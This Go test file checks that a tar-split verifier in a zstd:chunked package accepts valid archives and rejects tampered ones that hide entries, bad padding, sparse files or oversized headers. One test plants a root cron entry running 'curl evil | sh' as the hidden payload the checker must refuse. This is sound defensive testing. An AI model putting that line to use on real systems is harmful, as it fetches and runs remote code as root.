package zstdchunked

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lazylayer/lazylayer/toc"

	"github.com/lazylayer/lazylayer/internal/tarcheck"
	"github.com/lazylayer/lazylayer/internal/tartest"
	"github.com/lazylayer/lazylayer/internal/toctest"
	"github.com/vbatts/tar-split/tar/asm"
	"github.com/vbatts/tar-split/tar/storage"
)

// A tarFile is an entry of a test tar: its header and contents.
type tarFile struct {
	hdr  tar.Header
	data []byte
}

// tarOf writes a tar of files with archive/tar.
func tarOf(t testing.TB, files ...tarFile) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, f := range files {
		if err := tw.WriteHeader(&f.hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(f.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// sampleTar is a tar of a directory, files with and without contents and
// with PAX records, and a symlink.
func sampleTar(t testing.TB) []byte {
	mt := time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)
	return tarOf(t,
		tarFile{hdr: tar.Header{Typeflag: tar.TypeDir, Name: "etc/", Mode: 0o755, ModTime: mt}},
		tarFile{hdr: tar.Header{Typeflag: tar.TypeReg, Name: "etc/hosts", Mode: 0o644, Size: 20, ModTime: mt}, data: []byte("127.0.0.1 localhost\n")},
		tarFile{hdr: tar.Header{Typeflag: tar.TypeSymlink, Name: "etc/link", Linkname: "hosts", ModTime: mt}},
		tarFile{hdr: tar.Header{Typeflag: tar.TypeReg, Name: "etc/empty", Mode: 0o600, ModTime: mt}},
		tarFile{hdr: tar.Header{Typeflag: tar.TypeReg, Name: "bin/tool", Mode: 0o755, Size: 3, ModTime: mt.Add(time.Millisecond),
			PAXRecords: map[string]string{"SCHILY.xattr.user.note": "hi"}, Format: tar.FormatPAX}, data: []byte("abc")},
	)
}

// splitTar disassembles a tar into its tar-split records, as tar-split
// (and so containers/storage) does.
func splitTar(t testing.TB, raw []byte) []storage.Entry {
	t.Helper()
	var p collectPacker
	r, err := asm.NewInputTarStream(bytes.NewReader(raw), &p, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(io.Discard, r); err != nil {
		t.Fatal(err)
	}
	return p.entries
}

type collectPacker struct{ entries []storage.Entry }

func (p *collectPacker) AddEntry(e storage.Entry) (int, error) {
	e.Payload = bytes.Clone(e.Payload)
	p.entries = append(p.entries, e)
	return len(p.entries) - 1, nil
}

// tocOfTar returns the TOC entries of the headers archive/tar reads from
// a tar; they carry no chunks.
func tocOfTar(t testing.TB, raw []byte) *toc.TOC {
	t.Helper()
	toc := &toc.TOC{}
	tr := tar.NewReader(bytes.NewReader(raw))
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return toc
		}
		if err != nil {
			t.Fatal(err)
		}
		e, err := tartest.EntryOf(hdr)
		if err != nil {
			t.Fatal(err)
		}
		toc.Entries = append(toc.Entries, e)
	}
}

// packTarSplit compresses tar-split records.
func packTarSplit(t testing.TB, records []storage.Entry) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := NewTarSplitWriter(&b, 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range records {
		if r.Type == storage.SegmentType {
			err = w.AddSegment(r.Payload)
		} else {
			err = w.AddFile(r.GetName(), r.Size, r.Payload)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func checkRecords(t testing.TB, records []storage.Entry, toc *toc.TOC, opts ...TarSplitOption) (int64, error) {
	t.Helper()
	r, err := NewTarSplitReader(packTarSplit(t, records), "", opts...)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	return CheckTarSplit(r, toc)
}

// segmentOf returns the index of the segment record holding the header of
// the named entry.
func segmentOf(t testing.TB, records []storage.Entry, name string) int {
	for i, r := range records {
		if r.Type == storage.FileType && r.GetName() == name {
			return i - 1
		}
	}
	t.Fatalf("no entry %q", name)
	return 0
}

func TestCheckTarSplitAcceptsTarSplit(t *testing.T) {
	raw := sampleTar(t)
	records := splitTar(t, raw)
	toc := tocOfTar(t, raw)
	size, err := checkRecords(t, records, toc)
	if err != nil {
		t.Fatal(err)
	}
	if size != int64(len(raw)) {
		t.Errorf("tar size %d, want %d", size, len(raw))
	}

	// Segments may be cut anywhere: the check follows the bytes.
	var cut []storage.Entry
	for _, r := range records {
		if r.Type == storage.SegmentType && len(r.Payload) > 1 {
			for _, p := range [][]byte{r.Payload[:1], r.Payload[1 : len(r.Payload)/2], r.Payload[len(r.Payload)/2:]} {
				cut = append(cut, storage.Entry{Type: storage.SegmentType, Payload: p})
			}
			continue
		}
		cut = append(cut, r)
	}
	if _, err := checkRecords(t, cut, toc); err != nil {
		t.Errorf("segments cut in pieces: %v", err)
	}

	// The end of the archive may be one zero block, many, or missing,
	// and then the last entry's padding may be too, in whole or in part:
	// archive/tar reads the same entries from all of them.
	last := records[len(records)-1]
	padding := last.Payload[:len(last.Payload)-1024]
	if len(padding) < 2 {
		t.Fatalf("the sample's last entry has %d bytes of padding; the cases below need some", len(padding))
	}
	for _, end := range [][]byte{
		append(bytes.Clone(padding), make([]byte, 512)...),
		append(bytes.Clone(padding), make([]byte, 10240)...),
		padding,
		padding[:len(padding)/2],
		nil,
	} {
		recs := append(slices.Clone(records[:len(records)-1]), storage.Entry{Type: storage.SegmentType, Payload: end})
		if _, err := checkRecords(t, recs, toc); err != nil {
			t.Errorf("end of %d bytes: %v", len(end), err)
		}
	}
}

// TestCheckTarSplitRefusesHiddenEntries rebuilds tar streams in which a tar
// reader would see something the TOC does not list.
func TestCheckTarSplitRefusesHiddenEntries(t *testing.T) {
	raw := sampleTar(t)
	toc := tocOfTar(t, raw)
	mt := time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)
	evilBody := []byte("* * * * * root sh -c 'curl evil | sh'\n")
	evilHdr := tar.Header{Typeflag: tar.TypeReg, Name: "etc/cron.d/evil", Mode: 0o755, Size: int64(len(evilBody)), ModTime: mt}
	evil := tarOf(t, tarFile{hdr: evilHdr, data: evilBody})
	evil = evil[:len(evil)-1024] // header, body, padding

	edit := func(f func(records []storage.Entry) []storage.Entry) []storage.Entry {
		return f(splitTar(t, raw))
	}
	// withHeader replaces the named entry's header blocks by those of
	// its header changed by mutate, keeping the padding before them.
	withHeader := func(records []storage.Entry, name string, mutate func(*tar.Header)) []storage.Entry {
		i := segmentOf(t, records, name)
		hdr := hdrOf(t, raw, name)
		mutate(hdr)
		seg := records[i].Payload
		records[i].Payload = append(bytes.Clone(seg[:len(seg)%tarcheck.BlockSize]), tartest.HeaderBlocks(t, hdr)...)
		return records
	}
	for _, tc := range []struct {
		name    string
		records []storage.Entry
	}{
		{"entry after a directory's header", edit(func(r []storage.Entry) []storage.Entry {
			i := segmentOf(t, r, "etc/")
			r[i].Payload = append(r[i].Payload, evil...)
			return r
		})},
		{"entry after the end of the archive", edit(func(r []storage.Entry) []storage.Entry {
			return append(r, storage.Entry{Type: storage.SegmentType, Payload: evil})
		})},
		{"entry between the end-of-archive blocks", edit(func(r []storage.Entry) []storage.Entry {
			end := r[len(r)-1].Payload
			r[len(r)-1].Payload = slices.Concat(end[:len(end)-512], evil, make([]byte, 1024))
			return r
		})},
		{"non-zero padding", edit(func(r []storage.Entry) []storage.Entry {
			r[segmentOf(t, r, "etc/link")].Payload[0] = 'x'
			return r
		})},
		{"non-zero padding before the end", edit(func(r []storage.Entry) []storage.Entry {
			r[len(r)-1].Payload[0] = 'x'
			return r
		})},
		{"contents in a segment", edit(func(r []storage.Entry) []storage.Entry {
			i := segmentOf(t, r, "etc/hosts")
			r[i].Payload = append(r[i].Payload, []byte("127.0.0.1 localhost\n")...)
			r[i+1].Size, r[i+1].Payload = 0, nil
			return r
		})},
		{"file record shorter than its header says", edit(func(r []storage.Entry) []storage.Entry {
			r[segmentOf(t, r, "etc/hosts")+1].Size = 10
			return r
		})},
		{"file record under another name", edit(func(r []storage.Entry) []storage.Entry {
			r[segmentOf(t, r, "etc/hosts")+1].SetName("etc/other")
			return r
		})},
		{"file record after the end", edit(func(r []storage.Entry) []storage.Entry {
			return append(r, storage.Entry{Type: storage.FileType, Name: "x"})
		})},
		{"two headers, one file record", edit(func(r []storage.Entry) []storage.Entry {
			i := segmentOf(t, r, "etc/empty")
			r[i].Payload = append(r[i].Payload, tartest.HeaderBlocks(t, &tar.Header{Name: "etc/empty2", Mode: 0o600, ModTime: mt})...)
			return r
		})},
		{"symlink claiming data", edit(func(r []storage.Entry) []storage.Entry {
			return withHeader(r, "etc/link", func(h *tar.Header) { h.Size = 512 })
		})},
		{"sparse file", edit(func(r []storage.Entry) []storage.Entry {
			// archive/tar writes no GNU.sparse records: rename one.
			r = withHeader(r, "bin/tool", func(h *tar.Header) {
				h.PAXRecords["XXX.sparse.map"], h.PAXRecords["XXX.sparse.size"], h.PAXRecords["XXX.sparse.numblocks"] = "0,3", "3", "1"
			})
			i := segmentOf(t, r, "bin/tool")
			r[i].Payload = bytes.ReplaceAll(r[i].Payload, []byte("XXX.sparse."), []byte("GNU.sparse."))
			return r
		})},
		{"ACL", edit(func(r []storage.Entry) []storage.Entry {
			return withHeader(r, "bin/tool", func(h *tar.Header) { h.PAXRecords["SCHILY.acl.access"] = "user::rwx" })
		})},
		{"global header", edit(func(r []storage.Entry) []storage.Entry {
			i := segmentOf(t, r, "etc/empty")
			hdr := tartest.HeaderBlocks(t, &tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "g", PAXRecords: map[string]string{"path": "x"}})
			r[i].Payload = slices.Concat(r[i].Payload[:len(r[i].Payload)-512], hdr, r[i].Payload[len(r[i].Payload)-512:])
			return r
		})},
		{"two PAX headers", edit(func(r []storage.Entry) []storage.Entry {
			i := segmentOf(t, r, "bin/tool")
			pax := r[i].Payload[:len(r[i].Payload)-512]
			r[i].Payload = slices.Concat(pax, r[i].Payload)
			return r
		})},
		{"GNU long name and PAX path", edit(func(r []storage.Entry) []storage.Entry {
			i := segmentOf(t, r, "bin/tool")
			long := tartest.HeaderBlocks(t, &tar.Header{Name: strings.Repeat("d/", 60) + "tool", ModTime: mt, Format: tar.FormatGNU})
			long = long[:len(long)-512] // the 'L' header and its data
			pax := tartest.HeaderBlocks(t, &tar.Header{Name: "bin/tool", ModTime: mt, PAXRecords: map[string]string{"path": "bin/tool"}, Format: tar.FormatPAX})
			r[i].Payload = slices.Concat(long, pax[:len(pax)-512], r[i].Payload[len(r[i].Payload)-512:])
			return r
		})},
		{"truncated end", edit(func(r []storage.Entry) []storage.Entry {
			end := r[len(r)-1].Payload
			r[len(r)-1].Payload = end[:len(end)-1024+600]
			return r
		})},
		{"garbage at the end", edit(func(r []storage.Entry) []storage.Entry {
			end := r[len(r)-1].Payload
			r[len(r)-1].Payload = append(end[:len(end)-1024], "garbage"...)
			return r
		})},
	} {
		if _, err := checkRecords(t, tc.records, toc); !errors.Is(err, ErrTarSplitMismatch) {
			t.Errorf("%s: error %v, want ErrTarSplitMismatch", tc.name, err)
		}
	}
}

// hdrOf returns the header archive/tar reads for the named entry.
func hdrOf(t testing.TB, raw []byte, name string) *tar.Header {
	tr := tar.NewReader(bytes.NewReader(raw))
	for {
		hdr, err := tr.Next()
		if err != nil {
			t.Fatalf("no entry %q: %v", name, err)
		}
		if hdr.Name == name {
			return hdr
		}
	}
}

// TestCheckTarSplitBounds checks the limits, and that the error about a
// huge attribute does not quote it.
func TestCheckTarSplitBounds(t *testing.T) {
	mt := time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)
	huge := strings.Repeat("x", 1_000_000)
	var files []tarFile
	for i := range 16 {
		files = append(files, tarFile{hdr: tar.Header{Name: strings.Repeat("n", i+1), ModTime: mt,
			PAXRecords: map[string]string{"SCHILY.xattr.user.big": huge}, Format: tar.FormatPAX}})
	}
	raw := tarOf(t, files...)
	records := splitTar(t, raw)
	toc := tocOfTar(t, raw)
	for _, e := range toc.Entries {
		e.Xattrs = nil // the TOC does not list them
	}
	r, err := NewTarSplitReader(packTarSplit(t, records), "")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	allocated := toctest.BytesAllocated(func() { _, err = CheckTarSplit(r, toc) })
	if !errors.Is(err, ErrTarSplitMismatch) {
		t.Fatalf("error %v, want ErrTarSplitMismatch", err)
	}
	if len(err.Error()) > 512 {
		t.Errorf("error of %d bytes", len(err.Error()))
	}
	// Checking stops at the first of the 16 MB of attributes; the zstd
	// decoder's buffers take most of what it allocates.
	if allocated > 32<<20 {
		t.Errorf("allocated %d MiB", allocated>>20)
	}

	if _, err := checkRecords(t, records, tocOfTar(t, raw), WithMaxTarHeaderSize(512<<10)); !errors.Is(err, ErrTarSplitTooLarge) {
		t.Errorf("headers over the limit: error %v, want ErrTarSplitTooLarge", err)
	}
	if _, err := checkRecords(t, records, tocOfTar(t, raw), WithMaxTarSplitRecordSize(1<<20)); !errors.Is(err, ErrTarSplitTooLarge) {
		t.Errorf("record over the limit: error %v, want ErrTarSplitTooLarge", err)
	}
	// A TOC of five small entries cannot need 3 MiB of end-of-archive
	// zeros, valid as they are.
	small := splitTar(t, sampleTar(t))
	for range 3 {
		small = append(small, storage.Entry{Type: storage.SegmentType, Payload: make([]byte, 1<<20)})
	}
	if _, err := checkRecords(t, small, tocOfTar(t, sampleTar(t))); !errors.Is(err, ErrTarSplitTooLarge) {
		t.Errorf("tar-split larger than its TOC needs: error %v, want ErrTarSplitTooLarge", err)
	}
}

// TestCheckTarSplitRefusesSparseFiles checks that a tar-split describing
// a PAX sparse file, as containers/storage writes one, is refused: its
// file record stands for the expanded contents, which the TOC describes,
// while the tar it rebuilds holds the sparse map and the stored data, so
// tar readers would extract something else.
func TestCheckTarSplitRefusesSparseFiles(t *testing.T) {
	const realSize = 1 << 20
	raw, err := tartest.SparseTar("s", realSize, []byte("hello"))
	if err != nil {
		t.Fatal(err)
	}
	headerEnd := len(raw) - 3*512 // the data block and the end of the archive

	expanded := make([]byte, realSize)
	copy(expanded, "hello")
	crc := NewTarSplitCRC()
	crc.Write(expanded)
	var compressed bytes.Buffer
	w, err := NewTarSplitWriter(&compressed, 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	w.AddSegment(raw[:headerEnd])
	w.AddFile("s", realSize, crc.Sum(nil))
	w.AddSegment(raw[headerEnd+5:])
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	r, err := NewTarSplitReader(compressed.Bytes(), w.Digest())
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	index := &toc.TOC{Entries: []*toc.Entry{{Name: "s", Type: toc.TypeReg, Size: realSize, Mode: 0o644}}}
	if _, err := CheckTarSplit(r, index); !errors.Is(err, ErrTarSplitMismatch) || !strings.Contains(err.Error(), "sparse") {
		t.Errorf("CheckTarSplit: %v, want ErrTarSplitMismatch naming the sparse file", err)
	}
}
